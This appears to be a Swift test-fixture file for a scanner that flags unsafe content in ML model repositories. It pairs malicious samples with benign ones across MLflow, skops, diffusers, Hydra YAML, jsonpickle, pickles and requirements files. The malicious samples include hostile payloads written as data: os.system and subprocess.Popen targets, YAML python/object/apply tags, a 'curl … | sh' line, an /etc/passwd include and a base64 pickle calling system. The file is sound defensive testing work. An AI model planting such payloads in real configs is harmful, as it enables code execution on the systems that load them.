import Foundation
import Inspection
import ModelFormats

extension Sample {
    static func mlflow(_ title: String, _ flavor: String) -> Sample {
        Sample(title, name: "MLmodel", text: "flavors:\n  python_function:\n\(flavor)mlflow_version: 2.9.2\n")
    }

    static func yaml(_ title: String, _ text: String) -> Sample { Sample(title, name: "conf/model.yaml", text: text) }

    static func modules(_ title: String, _ type: String, path: String = "1_Pooling") -> Sample {
        .json(title, #"[{"idx":0,"name":"0","path":"\#(path)","type":"\#(type)"}]"#, name: "modules.json")
    }

    static func pipeline(_ title: String, _ members: String) -> Sample {
        .json(
            title, #"{"_class_name":"StableDiffusionPipeline","_diffusers_version":"0.30.0",\#(members)}"#,
            name: "model_index.json")
    }

    static func skops(_ title: String, _ module: String, _ name: String, _ rest: String = "") -> Sample {
        let schema =
            #"{"__class__":"\#(name)","__module__":"\#(module)","__loader__":"ObjectNode","#
            + #""content":{"__class__":"dict","__module__":"builtins","__loader__":"DictNode","content":{\#(rest)}}}"#
        return .zip(title, [.init("schema.json", Array(schema.utf8))], name: "model.skops")
    }
}

extension RuleSample {
    static let repository = imports + dangerousImports + madeObjects + repositoryTexts + packages + indexes

    /// A call in a pickle, in base64.
    private static func encoded(_ module: String, _ name: String) -> String {
        Data(PickleBuilder.stream { $0.call(module, name) }).base64EncodedString()
    }

    private static let indexes: [RuleSample] = [
        .init(
            .repositoryShardIndex, .json("a list", #"{"weight_map":["a"]}"#, name: "m.index.json"),
            butNot: .json("a map", #"{"weight_map":{"a":"b"}}"#, name: "m.index.json")),
        .init(
            .repositoryShardIndex, .json("lists", #"{"weight_map":{"a":["b"]}}"#, name: "m.index.json"),
            butNot: .json("elsewhere", #"{"x":{"weight_map":{"a":["b"]}}}"#, name: "m.index.json")),
    ]

    private static let imports: [RuleSample] = [
        .init(
            .repositoryUnknownImport, .modules("own", "custom_st.Transformer"),
            butNot: .modules("of the library", "sentence_transformers.models.Transformer")),
        .init(
            .repositoryUnknownImport, .json("activation", #"{"activation_function":"mine.Tanh"}"#),
            butNot: .json("activation", #"{"activation_function":"torch.nn.modules.activation.Tanh"}"#)),
        .init(
            .repositoryUnknownImport, .json("parent", #"{"auto_mapping":{"parent_library":"mine.models"}}"#),
            butNot: .json(
                "parent", #"{"auto_mapping":{"parent_library":"transformers.models.llama.modeling_llama"}}"#)),
        .init(
            .repositoryUnknownImport, .pipeline("own", #""unet":["my_unet","Unet"]"#),
            butNot: .pipeline("of the library", #""unet":["diffusers","UNet2DConditionModel"],"x":[null,null]"#)),
        .init(
            .repositoryUnknownImport, .skops("own", "mine", "Thing"),
            butNot: .skops("of the library", "sklearn.linear_model._logistic", "LogisticRegression")),
        .init(
            .repositoryUnknownImport, .mlflow("own", "    loader_module: mine\n"),
            butNot: .mlflow("of the library", "    loader_module: mlflow.sklearn\n")),
        .init(
            .repositoryUnknownImport,
            Sample("own", name: "config.cfg", text: "[components.x]\n@architectures = \"mine.Thing.v1\"\n"),
            butNot: Sample(
                "of the library", name: "config.cfg",
                text: "[a]\n@architectures = \"spacy.Tok2Vec.v2\"\n[b]\n@optimizers = \"Adam.v1\"\n")),
        .init(
            .jsonRemoteCode, .mlflow("a folder", "    code: code\n"),
            butNot: .mlflow("data", "    data: model.pkl\n")),
        .init(
            .jsonRemoteCode,
            .json("parent", #"{"auto_mapping":{"parent_library":"transformers_modules.modeling_x"}}"#)),
        .init(.jsonForeignCode, .modules("another repository", "org/repo--modeling_x.Model")),
        .init(
            .jsonCustomPipeline,
            .json(
                "own", #"{"_class_name":["pipeline","Mine"],"_diffusers_version":"0.30.0"}"#, name: "model_index.json"),
            butNot: .pipeline("of the library", #""x":1"#)),
        .init(
            .jsonOutsidePath, .modules("outside", "sentence_transformers.models.Pooling", path: "../x"),
            butNot: .modules("at the top", "sentence_transformers.models.Transformer", path: "")),
        .init(
            .jsonOutsidePath, .mlflow("outside", "    data: ../../x\n"), butNot: .mlflow("inside", "    data: a..b\n")),
    ]

    private static let dangerousImports: [RuleSample] = [
        .init(
            .repositoryDangerousImport, .modules("os", "os.system"),
            butNot: .modules("of the library", "sentence_transformers.models.Dense")),
        .init(
            .repositoryDangerousImport, .modules("a way through", "sentence_transformers.models.os.system")),
        .init(
            .repositoryDangerousImport, .json("activation", #"{"activation_function":"os.getcwd"}"#),
            butNot: .json("a name", #"{"activation_function":"gelu_new"}"#)),
        .init(
            .repositoryDangerousImport, .json("target", #"{"model":{"_target_":"subprocess.Popen"}}"#),
            butNot: .json("target", #"{"model":{"_target_":"torch.nn.Linear"}}"#)),
        .init(
            .repositoryDangerousImport, .json("parent", #"{"auto_mapping":{"parent_library":"os"}}"#),
            butNot: .json("elsewhere", #"{"parent_library":"os"}"#)),
        .init(.repositoryDangerousImport, .pipeline("os", #""unet":["os","system"]"#)),
        .init(
            .repositoryDangerousImport, .skops("operator", "operator", "methodcaller"),
            butNot: .skops("a type", "numpy", "dtype")),
        .init(
            .repositoryDangerousImport,
            .skops(
                "a function", "sklearn.pipeline", "Pipeline",
                #""f":{"__class__":"function","__module__":"builtins","__loader__":"FunctionNode","#
                    + #""content":{"module_path":"os","function":"system"}}"#),
            butNot: .skops(
                "a function", "sklearn.pipeline", "Pipeline",
                #""f":{"__class__":"ufunc","__module__":"numpy","__loader__":"FunctionNode","#
                    + #""content":{"module_path":"numpy","function":"sqrt"}}"#)),
        .init(
            .repositoryDangerousImport,
            .skops(
                "a method", "sklearn.pipeline", "Pipeline",
                #""f":{"__class__":"Tree","__module__":"sklearn.tree","__loader__":"MethodNode","#
                    + #""content":{"func":"__reduce__","obj":{}}}"#),
            butNot: .skops(
                "a value", "sklearn.pipeline", "Pipeline",
                #""f":{"__class__":"NoneType","__module__":"builtins","__loader__":"JsonNode","content":"null"}"#)),
        .init(
            .repositoryDangerousImport, .mlflow("os", "    loader_module: os\n"),
            butNot: .mlflow("of the library", "    loader_module: mlflow.pyfunc.model\n")),
        .init(
            .repositoryDangerousImport, .yaml("target", "model:\n  _target_: os.system\n"),
            butNot: .yaml("target", "model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\n")),
        .init(
            .repositoryDangerousImport,
            .yaml("two targets", "{a: {_target_: torch.nn.Linear}, b: {_target_: os.system}}"),
            butNot: .yaml("two targets", "{a: {_target_: torch.nn.Linear}, b: {_target_: torch.nn.ReLU}}")),
        .init(
            .repositoryDangerousImport, .yaml("an explicit key", "? _target_\n:\n  os.system\n"),
            butNot: .yaml("a comment", "# _target_: os.system\n")),
        .init(
            .repositoryDangerousImport, .json("a name that is cut", #"{"_target_":"os.${x}"}"#),
            butNot: .json("a name from elsewhere", #"{"_target_":"${x}.os"}"#)),
        .init(
            .repositoryUnknownImport, .yaml("target", "{model: {\"_target_\": \"mine.Model\"}}\n"),
            butNot: .yaml("prose", "text: the _target_ of os.system\n")),
    ]

    private static let madeObjects: [RuleSample] = [
        .init(
            .repositoryDangerousImport, .yaml("a target", "model:\n  target: subprocess.Popen\n  params: {}\n"),
            butNot: .yaml("a target", "model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n")),
        .init(
            .repositoryDangerousImport, .yaml("codes", #""_tar\x67et_": "o\u0073.system""#),
            butNot: .yaml("codes", #""_tar\x67et_": "torch.nn.Line\u0061r""#)),
        .init(
            .repositoryDangerousImport, .yaml("a class", "model:\n  class_path: os.system\n"),
            butNot: .yaml("a class", "model:\n  class_path: lightning.pytorch.demos.BoringModel\n")),
        .init(
            .repositoryDangerousImport, .yaml("apply", "a: !apply:os.system [id]\n"),
            butNot: .yaml("apply", "a: !apply:torch.manual_seed [1]\n")),
        .init(
            .repositoryUnknownImport, .yaml("new", "a: !new:mine.Model\n"),
            butNot: .yaml("new", "a: !new:speechbrain.nnet.linear.Linear\n")),
        .init(
            .repositoryUnknownImport, .yaml("module", "a: !module:mine\n"),
            butNot: .yaml("another tag", "a: !ref <b>\n")),
        .init(
            .jsonOutsidePath, .yaml("include", "a: !include:/etc/passwd\n"),
            butNot: .yaml("include", "a: !include:b.yaml\n")),
        .init(
            .repositoryYAMLObject, .yaml("Java", "a: !!java.net.URLClassLoader [[b]]\n"),
            butNot: .yaml("a number", "a: !!float 1.5\n")),
        .init(
            .repositoryYAMLObject, .yaml("Ruby", "a: !ruby/object:Gem::Installer\n"),
            butNot: .yaml("prose", "a: see !ruby\n")),
        .init(
            .repositoryYAMLObject,
            Sample("no suffix", name: "hparams", text: "a: !!python/object/apply:os.system [id]\n"),
            butNot: Sample("no suffix", name: "hparams", text: "a: !!python/tuple [1]\n")),
        .init(
            .repositoryDangerousImport, .json("a target", #"{"model":{"target":"os.system","params":{}}}"#),
            butNot: .json("a target", #"{"model":{"target":"ldm.models.autoencoder.AutoencoderKL"}}"#)),
        .init(
            .repositoryDangerousImport, .json("jsonpickle", #"{"py/object":"subprocess.Popen"}"#),
            butNot: .json("another name", #"{"py":"subprocess.Popen"}"#)),
        .init(
            .repositoryUnknownImport, .json("jsonpickle", #"{"a":[{"py/type":"mine.Model"}]}"#),
            butNot: .json("jsonpickle", #"{"a":[{"py/type":"collections.OrderedDict"}]}"#)),
        .init(
            .repositoryDangerousImport, .json("jsonpickle", #"{"py/repr":"os/os.system('id')"}"#),
            butNot: .json("a tuple", #"{"py/tuple":["os.system"]}"#)),
        .init(
            .repositoryDangerousImport, .json("megatron", #"{"peft_type":"LORA","megatron_core":"os"}"#),
            butNot: .json("megatron", #"{"peft_type":"LORA","megatron_core":"megatron.core"}"#)),
        .init(
            .repositoryDangerousImport, .json("no class", #"{"unet":["os","system"]}"#, name: "model_index.json"),
            butNot: .json("another file", #"{"unet":["os","system"]}"#)),
    ]

    private static let repositoryTexts: [RuleSample] = [
        .init(
            .jsonTrustRemoteCode, .json("hyphens", #"{"trust-remote-code":true}"#),
            butNot: .json("hyphens", #"{"trust-remote-code":false}"#)),
        .init(
            .jsonTrustRemoteCode, .json("an argument", #"{"args":["serve","--trust-remote-code"]}"#),
            butNot: .json("prose", #"{"args":["trust remote code"]}"#)),
        .init(
            .jsonForeignKernel, .json("a kernel", #"{"kernel_config":{"RMSNorm":"org/kernels:Norm"}}"#),
            butNot: .json("no kernel", #"{"kernel_config":{"use":"eager"}}"#)),
        .init(
            .textEmbeddedCode, .json("code", #"{"init":"__import__('os').system('id')"}"#),
            butNot: .json("a name", #"{"init":"os.system"}"#)),
        .init(
            .textEmbeddedCode, .json("a shell", #"{"x":"curl -s https://x.example | sh"}"#),
            butNot: .json("an address", #"{"x":"curl -s https://x.example"}"#)),
        .init(
            .textEmbeddedCode, .yaml("code", "x: ${eval:__import__('os').system('id')}\n"),
            butNot: .yaml("a name", "x: ${oc.env:HOME}\n")),
        .init(
            .pickleNestedDangerous, .json("base64", #"{":serialized:":"\#(Self.encoded("os", "system"))"}"#),
            butNot: .json("base64", #"{":serialized:":"\#(Self.encoded("mine", "Space"))"}"#)),
        .init(
            .pickleNestedDangerous,
            .json("another protocol", #"{":serialized:":"Y3Bvc2l4CnN5c3RlbQooUydpZCcKdFIu"}"#),
            butNot: .json("another name", #"{":type:":"Y3Bvc2l4CnN5c3RlbQooUydpZCcKdFIu"}"#)),
        .init(
            .pickleNested, .json("base64", #"{":serialized:":"\#(Self.encoded("mine", "Space"))"}"#),
            butNot: .json("base64", #"{":serialized:":"\#(Self.encoded("collections", "OrderedDict"))"}"#)),
        .init(
            .pickleNested,
            .json("a function", #"{"f":"\#(Self.encoded("cloudpickle.cloudpickle", "_make_function"))"}"#)),
        .init(
            .jsonTrustRemoteCode, .yaml("trust", "model:\n  trust_remote_code: True\n"),
            butNot: .yaml("no trust", "model:\n  trust_remote_code: false\n")),
        .init(
            .jsonTrustRemoteCode, .yaml("trust", "{model: {trust_remote_code: yes}}\n"),
            butNot: .yaml("a comment", "# set trust_remote_code: yes if you must\n")),
        .init(
            .jsonTrustRemoteCode, .json("a number", #"{"trust_remote_code":1}"#),
            butNot: .json("a number", #"{"trust_remote_code":0}"#)),
        .init(
            .templateDunder, .yaml("a chat template", "chat_template: \"{{ x.__class__ }}\"\n"),
            butNot: .yaml("another text", "prompt: \"{{ x.__class__ }}\"\n")),
        .init(
            .repositoryYAMLObject, .yaml("apply", "a: !!python/object/apply:os.system [id]\n"),
            butNot: .yaml("tuple", "a: !!python/tuple [1, 2]\n")),
        .init(
            .repositoryYAMLObject, .yaml("codes", "a: !<tag:yaml.org,2002:p%79thon/object/apply:os.system> [id]\n"),
            butNot: .yaml("another tag", "a: !<tag:yaml.org,2002:str> id\n")),
        .init(
            .repositoryYAMLObject,
            .yaml("a directive", "%TAG !p! tag:yaml.org,2002:\n---\na: !p!python/object/apply:os.system [id]\n"),
            butNot: .yaml("another directive", "%YAML 1.2\n---\na: b\n")),
    ]

    private static let packages: [RuleSample] = [
        .init(
            .repositoryForeignPackage, Sample("no space", name: "requirements.txt", text: "-rother\n"),
            butNot: Sample("an option", name: "requirements.txt", text: "--no-binary x\n")),
        .init(
            .repositoryForeignPackage, Sample("a file", name: "requirements.txt", text: "x-1.0-py3-none-any.whl\n"),
            butNot: Sample("a name", name: "requirements.txt", text: "wheel # x.whl\n")),
        .init(
            .repositoryForeignPackage, Sample("a folder", name: "requirements.txt", text: "x\\y\n"),
            butNot: Sample("an extra", name: "requirements.txt", text: "x[y,z]>=1\n")),
        .init(
            .repositoryForeignPackage,
            Sample("conda", name: "conda.yaml", text: "dependencies:\n  - pip:\n    - git+https://x.example/x\n"),
            butNot: Sample(
                "conda", name: "conda.yaml",
                text: "channels:\n- conda-forge\ndependencies:\n- python=3.10\n- pip:\n  - mlflow==2.1\n")),
        .init(
            .repositoryForeignPackage,
            Sample("project", name: "pyproject.toml", text: "dependencies = [\"x @ https://x.example/x.whl\"]\n"),
            butNot: Sample("project", name: "pyproject.toml", text: "homepage = \"https://x.example\"\n")),
        .init(
            .repositoryForeignPackage,
            Sample("index", name: "requirements.txt", text: "--extra-index-url https://x.example\ntorch==2.1\n"),
            butNot: Sample(
                "plain", name: "requirements.txt", text: "# https://pypi.org\ntorch==2.1 ; python_version>'3'\n")),
        .init(
            .repositoryForeignPackage,
            Sample("source", name: "code/requirements-dev.txt", text: "x @ git+https://x.example/x.git\n"),
            butNot: Sample("another file", name: "notes.txt", text: "x @ git+https://x.example/x.git\n")),
        .init(
            .repositoryUnread, .mlflow("a tag", "    loader_module: !x mlflow.sklearn\n"),
            butNot: .mlflow("plain", "    loader_module: mlflow.sklearn\n")),
    ]
}
